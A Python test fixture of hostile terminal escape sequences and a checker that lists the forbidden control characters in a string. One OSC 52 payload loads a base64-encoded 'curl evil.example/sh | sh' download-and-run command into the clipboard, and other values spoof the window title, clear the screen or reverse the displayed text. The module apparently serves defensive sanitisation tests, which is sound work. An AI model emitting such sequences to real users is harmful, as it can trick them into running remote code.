"""Hostile text for the escape-sequence tests: what a crafted tree, log or node can carry."""

from __future__ import annotations

# OSC 52 sets the clipboard (here to "curl evil.example/sh | sh"), OSC 0 the window title,
# CSI 2J clears the screen, C1 CSI (U+009B) does the same on some terminals, U+202E reverses
# the text that follows, BEL/BS/CR rewrite what is shown.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x1b\\"
TITLE = "\x1b]0;PWNED\x07"
CLEAR = "\x1b[2J"
C1 = "\x9b2J"
RLO = "\u202e"
HOSTILE = f"{OSC52}{TITLE}{CLEAR}{C1}{RLO}a\bb\rc\x00d\u2066e"
# What must never reach a terminal: ESC, C1 controls, BEL, BS, CR mid-line, NUL, bidi controls.
FORBIDDEN = ("\x1b", "\x9b", "\x07", "\x08", "\x00", "\u202e", "\u2066")


def leaks(text: str) -> list[str]:
    """The forbidden characters present in `text` (a lone CR counts; a CRLF line end does not)."""
    found = [repr(c) for c in FORBIDDEN if c in text]
    if "\r" in text.replace("\r\n", "\n"):
        found.append(repr("\r"))
    return found
